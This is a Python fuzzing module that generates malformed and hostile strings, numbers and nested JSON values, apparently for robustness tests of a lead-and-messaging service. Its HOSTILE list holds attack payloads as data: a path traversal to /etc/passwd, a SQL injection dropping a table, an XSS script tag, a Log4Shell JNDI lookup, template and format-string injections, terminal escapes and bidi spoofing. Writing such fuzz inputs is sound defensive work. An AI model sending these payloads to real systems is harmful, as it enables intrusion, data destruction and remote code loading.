"""Strings that nobody should send, and whatever else stands in a field by mistake or on purpose."""

from random import Random

SURROGATE = "\ud800"
STAND_IN = "\u2603"
"""Three bytes in UTF-8, as a lone surrogate would have: put in its place once the record is encoded."""
STAND_IN_BYTES, SURROGATE_BYTES = STAND_IN.encode(), b"\xed\xa0\x80"

HOSTILE = (
    "",
    " ",
    "\x00",
    "\x1b[2J\x1b]0;owned\x07",
    "a\r\nb\x85c\u2028d",
    "\u202egnp.daeL\u2066",
    "שלום \u200fעולם",
    "\ufeff\u200b\u200d",
    "Z\u0351\u0310" * 60,
    "😀" * 40,
    "\U0010ffff\ufffe",
    "../../../etc/passwd",
    "'; DROP TABLE leads; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://x/a}",
    "{{7*7}}%s%n%d{0}",
    "NaN",
    "-1",
    "1e999",
    "9" * 400,
    "x" * 199,
    "x" * 201,
    "x" * 8_001,
    "l/lead-1",
    "conversation.phase/../x",
    STAND_IN,
)
ONCE_VALID = ("lead-1", "lead-2", "booking", "closing", "send_message", "escalate", "twilio", "CA1", "en-US", "1")
NUMBERS = (0, 1, -1, 2**31 - 1, -(2**31), 2**53, 2**63 - 1, -(2**63), 1_767_607_200_000_000)
FLOATS = (0.0, 1.0, -0.0, 0.5, 1e308, -1e-308, float("nan"), float("inf"), float("-inf"))
WORD = 1_000_000
"""Characters of the longest word."""


def text(random: Random) -> str:
    """A string; one in five thousand is up to a megabyte."""
    if random.random() < 0.0002:
        return random.choice("x\u202e\x00") * random.randint(WORD // 4, WORD)
    if random.random() < 0.5:
        return random.choice(ONCE_VALID)
    return random.choice(HOSTILE)


def json_value(random: Random, depth: int = 3) -> object:
    """Any JSON value, small."""
    kind = random.randrange(9 if depth else 7)
    if kind < 3:
        return text(random)
    if kind == 3:
        return random.choice(NUMBERS)
    if kind == 4:
        return random.choice(FLOATS)
    if kind == 5:
        return random.choice((None, True, False))
    if kind == 6:
        return SURROGATE
    items = [json_value(random, depth - 1) for _ in range(random.randrange(4))]
    return items if kind == 7 else {text(random)[:300]: item for item in items}
